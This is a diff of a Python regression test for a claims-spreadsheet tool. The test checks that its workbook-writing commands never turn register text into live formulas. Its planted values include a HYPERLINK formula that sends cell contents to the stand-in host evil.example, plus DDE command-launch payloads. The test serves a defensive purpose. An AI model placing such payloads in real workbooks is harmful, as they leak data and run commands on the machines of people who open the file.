@@ -3,8 +3,8 @@ as a formula (ARCHITECTURE.md "Files we touch"; issue 10).
 
 A store is planted with such values in the columns that flow into our outputs (names, plates, claim
 and archive numbers, clerks), every command that writes a workbook runs on it, and the XML of every
-sheet written is searched for formula elements (<f>). Formulas we write on purpose would go in
-INTENDED; there are none today. Add a command to WRITERS when it lands on main.
+sheet written is searched for formula elements (<f>). Formulas we write on purpose are in INTENDED
+(the reconciliation workbook's SUM totals). Add a command to WRITERS when it lands on main.
 """
 from __future__ import annotations
 
@@ -28,7 +28,8 @@ AS_OF = "2026-11-24"
 PLANTED = {"customer": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "claim_no": "+1+cmd|' /C calc'!A0",
            "plate": "-2+3", "archive_no": "@SUM(1+1)*cmd|' /C calc'!A0", "clerk": "=1+1", "insurer_receiver": "@人保",
            "adjuster": "=A1", "our_clerk": "+周敏"}
-INTENDED: dict[str, set[str]] = {}  # workbook name pattern → formulas written on purpose
+# workbook name pattern → the shape of the formulas written there on purpose (totals over a range)
+INTENDED: dict[str, str] = {r"^reconcile": r"SUM\([A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)"}
 # Every command that writes a workbook, as argv templates ({store}, {out}, {filled}); add new ones here.
 WRITERS = {
     "overdue": [["overdue", "{store}", "--out", "{out}/催款清单.xlsx"]],
@@ -36,8 +37,8 @@ WRITERS = {
     "validate": [["validate", "{store}", "--out", "{out}/validated.xlsx"]],
     "report": [["report", "{store}", "--month", "2026-10", "--out", "{out}/report.xlsx"]],
     "reconcile": [["reconcile", "{store}", "--month", "2026-10", "--insurer", "人保财险", "--statement", "{statement}",
-                   "--out", "{out}/reconcile.xlsx"]],
-    "region": [["region", "{store}", "--month", "2026-10", "--out", "{out}/region.xlsx"]],
+                   "--out", "{out}/reconcile.xlsx", "--lock"]],
+    "region": [["region", "{report}", "--month", "2026-10", "--out", "{out}/region.xlsx"]],  # on report's output
     "templates": [["templates", "{out}/templates"]],
 }
 
@@ -119,6 +120,7 @@ def test_no_command_writes_a_formula_from_register_text(planted_store, filled_li
     written_by: dict[str, list[Path]] = {}
     available = {name for name, *_ in COMMANDS}
     ran = []
+    report = ""
     for command, templates in WRITERS.items():
         if command not in available:
             continue
@@ -128,7 +130,7 @@ def test_no_command_writes_a_formula_from_register_text(planted_store, filled_li
             store = work / "store.xlsx"
             shutil.copy(planted_store, store)
             values = {"store": str(store), "out": str(work / "out"), "filled": str(filled_list),
-                      "statement": str(sample("statement.xlsx"))}
+                      "statement": str(sample("statement.xlsx")), "report": report}
             argv = [part.format(**values) for part in template]
             if command not in ("templates",):
                 argv += ["--settings", str(sample("settings.toml")), "--as-of", AS_OF]
@@ -136,7 +138,9 @@ def test_no_command_writes_a_formula_from_register_text(planted_store, filled_li
             assert code in (0, 1), (argv, code)
             ran.append(" ".join(template[:2]))
             outputs = sorted((work / "out").rglob("*.xlsx"))
-            if "import" in template:
+            if command == "report":
+                report = str(outputs[0])
+            if "import" in template or "--lock" in template:  # these write into the clerk's store too
                 outputs.append(store)
             assert outputs, f"{argv} wrote no workbook"
             written_by.setdefault(" ".join(template[:2]), []).extend(outputs)
@@ -145,8 +149,9 @@ def test_no_command_writes_a_formula_from_register_text(planted_store, filled_li
     texts_seen = set()
     for command, paths in written_by.items():
         for path in paths:
-            allowed = next((f for pattern, f in INTENDED.items() if re.search(pattern, path.name)), set())
-            unintended += [(command, path.name, part, f) for part, f in formulas_in(path) if f not in allowed]
+            allowed = next((shape for pattern, shape in INTENDED.items() if re.search(pattern, path.name)), None)
+            unintended += [(command, path.name, part, f) for part, f in formulas_in(path)
+                           if not (allowed and re.fullmatch(allowed, f))]
             with zipfile.ZipFile(path) as archive:
                 xml = "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist() if n.endswith(".xml"))
             texts_seen |= {lead for lead in "=+-@" if re.search(rf"<(?:\w+:)?t[^>]*>{re.escape(lead)}", xml)}
